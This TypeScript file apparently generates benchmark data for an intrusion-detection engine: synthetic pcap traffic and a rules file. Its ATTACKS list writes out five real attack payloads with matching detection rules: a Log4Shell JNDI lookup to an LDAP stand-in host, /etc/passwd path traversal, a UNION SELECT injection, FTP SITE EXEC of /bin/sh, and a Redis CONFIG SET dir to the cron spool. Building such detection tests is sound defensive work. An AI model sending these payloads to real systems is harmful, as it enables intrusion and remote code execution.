/**
 * Deterministic benchmark material: a pcap of interleaved TCP flows (handshake, HTTP / text /
 * binary payloads of 200–1,400 bytes both ways, teardown) with a small share of attack flows,
 * and a .rules file of random content rules plus the attack rules. Same seed → same bytes.
 */
import { createWriteStream } from 'node:fs';
import { once } from 'node:events';
import { PcapWriter, tcpFrame } from '../../src/engine/pcap-writer.js';

export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export interface GenOptions {
  seed: number;
  minPackets: number;
  flows: number;
  /** Concurrently open flows (interleaving). */
  concurrency: number;
  attackShare: number;
  randomRules: number;
}

export interface Truth {
  /** "srcIp:srcPort" of each attack flow → the attack sid it must raise. */
  attacks: Map<string, number>;
}

const PORTS = [80, 80, 80, 443, 8080, 8080, 21, 25, 110, 143, 3306, 5432, 6379, 8443, 9200];
const UNWATCHED = [5000, 7070, 12345];

const WORDS =
  'the quick brown fox jumps over lazy dog lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt ut labore et dolore magna aliqua server client request response session token value'.split(
    ' ',
  );

export const ATTACKS: { sid: number; rule: string; payload: string[] }[] = [
  {
    sid: 9_000_001,
    rule: 'alert tcp any any -> any 80 (msg:"BENCH Log4Shell JNDI lookup"; flow:to_server,established; content:"${jndi:"; nocase; content:"ldap://"; distance:0; within:40; classtype:attempted-admin; sid:9000001; rev:1;)',
    payload: ['GET /login HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${JN', 'DI:ldap://198.51.100.99:1389/a}\r\nAccept: */*\r\n\r\n'],
  },
  {
    sid: 9_000_002,
    rule: 'alert tcp any any -> any 8080 (msg:"BENCH path traversal"; flow:to_server,established; content:"GET "; depth:4; content:"/../../../../etc/passwd"; distance:0; classtype:web-application-attack; sid:9000002; rev:1;)',
    payload: ['GET /static/..', '/../../../etc/pa', 'sswd HTTP/1.1\r\nHost: x\r\n\r\n'],
  },
  {
    sid: 9_000_003,
    rule: 'alert tcp any any -> any 3306 (msg:"BENCH SQL injection union select"; flow:to_server,established; content:"UNION"; nocase; content:"SELECT"; nocase; distance:1; within:12; pcre:"/union\\s+(all\\s+)?select/i"; classtype:web-application-attack; sid:9000003; rev:1;)',
    payload: ["\x03SELECT name FROM users WHERE id='1' un", 'ion all select password,1 FROM admins--'],
  },
  {
    sid: 9_000_004,
    rule: 'alert tcp any any -> any 21 (msg:"BENCH FTP SITE EXEC"; flow:to_server,established; content:"SITE"; nocase; content:"EXEC"; nocase; distance:1; within:6; isdataat:8,relative; classtype:attempted-admin; sid:9000004; rev:1;)',
    payload: ['USER anonymous\r\nPASS x@\r\nSITE ', 'EXEC /bin/sh -c "id; uname -a"\r\n'],
  },
  {
    sid: 9_000_005,
    rule: 'alert tcp any any -> any 6379 (msg:"BENCH Redis CONFIG SET dir"; flow:to_server,established; content:"CONFIG"; content:"SET"; distance:1; within:10; content:"dir"; nocase; distance:0; classtype:attempted-admin; sid:9000005; rev:1;)',
    payload: ['*4\r\n$6\r\nCONFIG\r\n$3\r\nSE', 'T\r\n$3\r\nDIR\r\n$15\r\n/var/spool/cron\r\n'],
  },
];

const ATTACK_PORT: Record<number, number> = { 9_000_001: 80, 9_000_002: 8080, 9_000_003: 3306, 9_000_004: 21, 9_000_005: 6379 };

function randomPattern(r: () => number): string {
  // 10–20 printable bytes including punctuation and digits: cannot occur by chance in the traffic.
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789#%&*+,-./:=?@^_~';
  const n = 10 + Math.floor(r() * 11);
  let s = '';
  for (let i = 0; i < n; i++) s += alphabet.charAt(Math.floor(r() * alphabet.length));
  return s;
}

/** ≥ `count` random content rules (15 % on port any, 20 % nocase, 10 % to_client) plus the attack rules. */
export function generateRules(seed: number, count: number): string {
  const r = rng(seed ^ 0x5eed);
  const lines: string[] = [];
  for (let i = 0; i < count; i++) {
    const sid = 8_000_000 + i;
    const anyPort = r() < 0.15;
    const port = PORTS[Math.floor(r() * PORTS.length)]!;
    const nocase = r() < 0.2 ? ' nocase;' : '';
    const toClient = !anyPort && r() < 0.1;
    const pat = randomPattern(r);
    const second = r() < 0.3 ? ` content:"${randomPattern(r)}"; distance:0;` : '';
    if (toClient) {
      lines.push(`alert tcp any ${port} -> any any (msg:"BENCH random ${sid}"; flow:to_client,established; content:"${pat}";${nocase}${second} classtype:misc-activity; sid:${sid}; rev:1;)`);
    } else {
      lines.push(`alert tcp any any -> any ${anyPort ? 'any' : port} (msg:"BENCH random ${sid}"; flow:to_server,established; content:"${pat}";${nocase}${second} classtype:misc-activity; sid:${sid}; rev:1;)`);
    }
  }
  for (const a of ATTACKS) lines.push(a.rule);
  return lines.join('\n') + '\n';
}

function payload(r: () => number, kind: number, size: number, toServer: boolean): Uint8Array {
  if (kind === 2) {
    const b = new Uint8Array(size);
    for (let i = 0; i < size; i++) b[i] = Math.floor(r() * 256);
    return b;
  }
  let s = '';
  if (kind === 0) {
    s = toServer
      ? `GET /api/v1/items/${Math.floor(r() * 1e6)}?q=${WORDS[Math.floor(r() * WORDS.length)]} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: text/html\r\nCookie: sid=${Math.floor(r() * 1e9)}\r\n\r\n`
      : `HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nServer: nginx\r\nContent-Length: ${size}\r\n\r\n<html><body>`;
  }
  while (s.length < size) s += WORDS[Math.floor(r() * WORDS.length)]! + (r() < 0.1 ? '\r\n' : ' ');
  return Buffer.from(s.slice(0, size), 'latin1');
}

interface FlowPlan {
  packets: { fromClient: boolean; flags: number; payload?: Uint8Array; seqOffset?: number }[];
  cli: string;
  srv: string;
  cport: number;
  sport: number;
  cisn: number;
  sisn: number;
}

const SYN = 2;
const ACK = 16;
const PSH = 8;
const FIN = 1;

function planFlow(r: () => number, idx: number, attack: (typeof ATTACKS)[number] | undefined, dataPackets: number): FlowPlan {
  const cli = `203.0.113.${1 + (idx % 250)}`;
  const srv = `198.51.100.${10 + Math.floor(r() * 20)}`;
  const cport = 20000 + ((idx * 7) % 40000);
  const sport = attack ? ATTACK_PORT[attack.sid]! : r() < 0.9 ? PORTS[Math.floor(r() * PORTS.length)]! : UNWATCHED[Math.floor(r() * UNWATCHED.length)]!;
  const plan: FlowPlan = { packets: [], cli, srv, cport, sport, cisn: Math.floor(r() * 2 ** 32), sisn: Math.floor(r() * 2 ** 32) };
  const p = plan.packets;
  p.push({ fromClient: true, flags: SYN }, { fromClient: false, flags: SYN | ACK }, { fromClient: true, flags: ACK });
  const kind = r() < 0.5 ? 0 : r() < 0.5 ? 1 : 2;
  // First client data, so depth-anchored contents ("GET " depth:4) hold.
  const attackAt = attack ? 0 : -1;
  for (let i = 0; i < dataPackets; i++) {
    if (i === attackAt && attack) {
      // The attack, split over segments, sent out of order, with one retransmission.
      const segs = attack.payload.map((s) => Buffer.from(s, 'latin1'));
      const order = segs.map((_, k) => k).reverse();
      let off = 0;
      const offs = segs.map((s) => {
        const o = off;
        off += s.length;
        return o;
      });
      for (const k of order) p.push({ fromClient: true, flags: ACK | PSH, payload: segs[k]!, seqOffset: offs[k]! });
      p.push({ fromClient: true, flags: ACK | PSH, payload: segs[0]!, seqOffset: 0 });
      p.push({ fromClient: true, flags: ACK | PSH, payload: new Uint8Array(0), seqOffset: off }); // advances seq marker
      continue;
    }
    const toServer = r() < 0.5;
    const size = 200 + Math.floor(r() * 1201);
    p.push({ fromClient: toServer, flags: ACK | PSH, payload: payload(r, kind, size, toServer) });
  }
  p.push({ fromClient: true, flags: FIN | ACK }, { fromClient: false, flags: FIN | ACK }, { fromClient: true, flags: ACK });
  return plan;
}

/** Writes the pcap; returns ground truth and counts. */
export async function generatePcap(path: string, o: GenOptions): Promise<{ truth: Truth; packets: number; bytes: number; flows: number }> {
  const r = rng(o.seed);
  const perFlow = Math.ceil(o.minPackets / o.flows);
  const attackEvery = Math.round(1 / o.attackShare);
  const truth: Truth = { attacks: new Map() };
  const out = createWriteStream(path);
  const w = new PcapWriter(1);
  let ts = 1_763_700_000_000_000;
  let packets = 0;
  let bytes = 0;
  let started = 0;
  interface Live {
    plan: FlowPlan;
    i: number;
    cseq: number;
    sseq: number;
    base: number;
  }
  const live: Live[] = [];
  const start = (): void => {
    const idx = started++;
    const attack = idx % attackEvery === attackEvery - 1 ? ATTACKS[Math.floor(idx / attackEvery) % ATTACKS.length] : undefined;
    const dataPackets = Math.max(4, perFlow - 6 + Math.floor(r() * 7) - 3);
    const plan = planFlow(r, idx, attack, dataPackets);
    if (attack) truth.attacks.set(`${plan.cli}:${plan.cport}`, attack.sid);
    live.push({ plan, i: 0, cseq: plan.cisn, sseq: plan.sisn, base: 0 });
  };
  while (live.length < o.concurrency && started < o.flows) start();
  while (live.length > 0) {
    const k = Math.floor(r() * live.length);
    const f = live[k]!;
    const pk = f.plan.packets[f.i++]!;
    const pl = f.plan;
    let seq: number;
    if (pk.fromClient) {
      if (pk.seqOffset !== undefined) {
        seq = (f.base + pk.seqOffset) >>> 0;
        if (pk.payload && pk.payload.length === 0) {
          f.cseq = seq;
          if (f.i >= pl.packets.length) live.splice(k, 1);
          continue;
        }
      } else seq = f.cseq;
    } else seq = f.sseq;
    const ack = pk.fromClient ? f.sseq : f.cseq;
    const frame = tcpFrame({
      srcIp: pk.fromClient ? pl.cli : pl.srv,
      dstIp: pk.fromClient ? pl.srv : pl.cli,
      srcPort: pk.fromClient ? pl.cport : pl.sport,
      dstPort: pk.fromClient ? pl.sport : pl.cport,
      seq,
      ack: (pk.flags & SYN) !== 0 && pk.fromClient ? 0 : ack,
      flags: pk.flags,
      ...(pk.payload ? { payload: pk.payload } : {}),
    });
    ts += 3 + Math.floor(r() * 4);
    w.add({ tsUs: ts, data: frame });
    packets++;
    bytes += frame.length;
    const len = (pk.payload?.length ?? 0) + ((pk.flags & (SYN | FIN)) !== 0 ? 1 : 0);
    if (pk.fromClient) {
      if (pk.seqOffset === undefined) f.cseq = (f.cseq + len) >>> 0;
      if ((pk.flags & SYN) !== 0) f.base = f.cseq;
    } else f.sseq = (f.sseq + len) >>> 0;
    if (f.i === 3) f.base = f.cseq;
    if (f.i >= pl.packets.length) {
      live.splice(k, 1);
      if (started < o.flows) start();
    }
    if (w.byteLength > 4 * 1024 * 1024 && !out.write(w.drain())) await once(out, 'drain');
  }
  out.write(w.drain());
  out.end();
  await once(out, 'finish');
  return { truth, packets, bytes, flows: started };
}
